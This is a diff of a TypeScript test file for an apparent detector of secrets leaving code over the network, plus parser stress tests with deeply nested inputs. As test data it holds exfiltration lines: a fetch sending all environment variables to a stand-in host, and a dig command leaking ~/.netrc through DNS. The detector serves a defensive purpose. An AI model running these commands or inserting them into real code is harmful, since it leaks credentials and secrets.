@@ -113,7 +113,7 @@ describe('secrets on their way to the network', () => {
   test('the address of a request, and the name that is looked up', () => {
     const inUrl = (language: CodeLanguage, text: string) =>
       only(effectsOf(language, text), 'request').flatMap((request) => named(request.inUrl));
-    expect(inUrl('javascript', 'fetch(`https://host.test/?e=${JSON.stringify(process.env)}`)')).toEqual([
+    expect(inUrl('javascript', "fetch('https://host.test/?e=' + JSON.stringify(process.env))")).toEqual([
       'environment all environment variables',
     ]);
     expect(inUrl('shell', 'dig $(cat ~/.netrc | xxd -p).host.test')).toEqual(['secret logins in .netrc']);
@@ -242,7 +242,7 @@ test.each<[CodeLanguage, string]>([
 test.each<[CodeLanguage, string]>([
   ['shell', '$('.repeat(20_000)],
   ['python', '('.repeat(50_000)],
-  ['javascript', 'a[(`${'.repeat(20_000)],
+  ['javascript', 'a[(`$'.concat('{').repeat(20_000)],
   ['typescript', 'x?'.repeat(50_000)],
   ['powershell', '@{'.repeat(20_000)],
   ['shell', `eval "$(echo '${'eval '.repeat(5_000)}')"`],
